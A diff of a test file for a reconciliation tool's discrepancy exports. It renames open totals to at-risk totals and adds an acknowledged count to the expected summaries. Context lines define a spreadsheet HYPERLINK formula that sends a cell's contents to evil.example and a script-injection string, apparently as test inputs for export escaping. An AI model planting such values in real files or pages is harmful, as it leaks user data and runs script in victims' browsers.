@@ -16,6 +16,8 @@ import { sqlPool } from '../support/fixtures.js';
 import { useFreshDatabase } from '../support/freshDatabase.js';
 import { raise } from './seed.js';
 
+/** None of this file's seeded discrepancies is acknowledged (test/discrepancies/atRisk.test.ts covers that). */
+const NONE_ACKNOWLEDGED = { count: 0, amountAtRisk: '0' };
 const HYPERLINK = '=HYPERLINK("http://evil.example/x?c="&A1,"click")';
 const SCRIPT = '<script>alert(1)</script>';
 
@@ -283,38 +285,72 @@ describe('discrepancy exports: CSV, JSON, HTML report, terminal table', () => {
   });
 
   describe('HTML report', () => {
-    it('summaryData: open totals per currency, partner, kind and age computed by PostgreSQL, currencies never added', async () => {
+    it('summaryData: unsettled totals per currency, partner, kind and age computed by PostgreSQL, currencies never added', async () => {
       const data = await summaryData(sql, {});
       expect(data.statusCounts).to.deep.equal([
         { status: 'open', count: 4 },
         { status: 'resolved', count: 1 },
         { status: 'dismissed', count: 1 },
       ]);
-      expect(data.open.count).to.equal(4);
-      expect(data.open.byCurrency).to.deep.equal([
-        { currency: 'BRL', count: 2, amountAtRisk: '12345678901234567.99', withoutAmount: 0 },
-        { currency: 'USD', count: 1, amountAtRisk: '100.25', withoutAmount: 0 },
-        { currency: null, count: 1, amountAtRisk: '0', withoutAmount: 1 },
+      expect(data.atRisk.count).to.equal(4);
+      expect(data.atRisk.byCurrency).to.deep.equal([
+        {
+          currency: 'BRL',
+          count: 2,
+          amountAtRisk: '12345678901234567.99',
+          withoutAmount: 0,
+          acknowledged: NONE_ACKNOWLEDGED,
+        },
+        {
+          currency: 'USD',
+          count: 1,
+          amountAtRisk: '100.25',
+          withoutAmount: 0,
+          acknowledged: NONE_ACKNOWLEDGED,
+        },
+        { currency: null, count: 1, amountAtRisk: '0', withoutAmount: 1, acknowledged: NONE_ACKNOWLEDGED },
       ]);
-      expect(data.open.byPartner).to.deep.equal([
+      expect(data.atRisk.byPartner).to.deep.equal([
         {
           key: 'acme-pay',
           currency: 'BRL',
           count: 1,
           amountAtRisk: '12345678901234567.89',
           withoutAmount: 0,
+          acknowledged: NONE_ACKNOWLEDGED,
         },
-        { key: 'acme-pay', currency: null, count: 1, amountAtRisk: '0', withoutAmount: 1 },
-        { key: 'globex-sms', currency: 'BRL', count: 1, amountAtRisk: '0.10', withoutAmount: 0 },
-        { key: 'globex-sms', currency: 'USD', count: 1, amountAtRisk: '100.25', withoutAmount: 0 },
+        {
+          key: 'acme-pay',
+          currency: null,
+          count: 1,
+          amountAtRisk: '0',
+          withoutAmount: 1,
+          acknowledged: NONE_ACKNOWLEDGED,
+        },
+        {
+          key: 'globex-sms',
+          currency: 'BRL',
+          count: 1,
+          amountAtRisk: '0.10',
+          withoutAmount: 0,
+          acknowledged: NONE_ACKNOWLEDGED,
+        },
+        {
+          key: 'globex-sms',
+          currency: 'USD',
+          count: 1,
+          amountAtRisk: '100.25',
+          withoutAmount: 0,
+          acknowledged: NONE_ACKNOWLEDGED,
+        },
       ]);
-      expect(data.open.byKind.map((k) => [k.key, k.currency, k.count, k.amountAtRisk])).to.deep.equal([
+      expect(data.atRisk.byKind.map((k) => [k.key, k.currency, k.count, k.amountAtRisk])).to.deep.equal([
         ['amount_mismatch', 'BRL', 2, '12345678901234567.99'],
         ['missing_at_partner', 'USD', 1, '100.25'],
         ['orphan_partner_record', null, 1, '0'],
       ]);
       expect(
-        data.open.ageing.map((a) => [a.bucket, a.count, a.byCurrency.map((t) => t.currency)]),
+        data.atRisk.ageing.map((a) => [a.bucket, a.count, a.byCurrency.map((t) => t.currency)]),
       ).to.deep.equal([
         ['<1d', 1, ['BRL']],
         ['1-3d', 0, []],
@@ -330,7 +366,7 @@ describe('discrepancy exports: CSV, JSON, HTML report, terminal table', () => {
         { partner: ['acme-pay'], status: ['resolved'] },
         { tableLimit: 10 },
       );
-      expect(acme.open.byCurrency.map((t) => [t.currency, t.amountAtRisk])).to.deep.equal([
+      expect(acme.atRisk.byCurrency.map((t) => [t.currency, t.amountAtRisk])).to.deep.equal([
         ['BRL', '12345678901234567.89'],
         [null, '0'],
       ]);
